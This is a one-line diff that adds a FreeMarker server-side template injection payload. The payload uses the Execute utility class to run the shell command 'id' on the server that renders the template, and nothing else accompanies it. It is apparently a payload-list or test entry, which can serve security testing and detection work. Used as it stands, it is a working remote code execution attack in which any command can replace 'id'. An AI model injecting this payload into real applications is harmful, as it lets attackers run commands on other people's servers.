@@ -1,0 +1,1 @@
+[#assign run = "freemarker.template.utility.Execute"?new()][=run("id")]
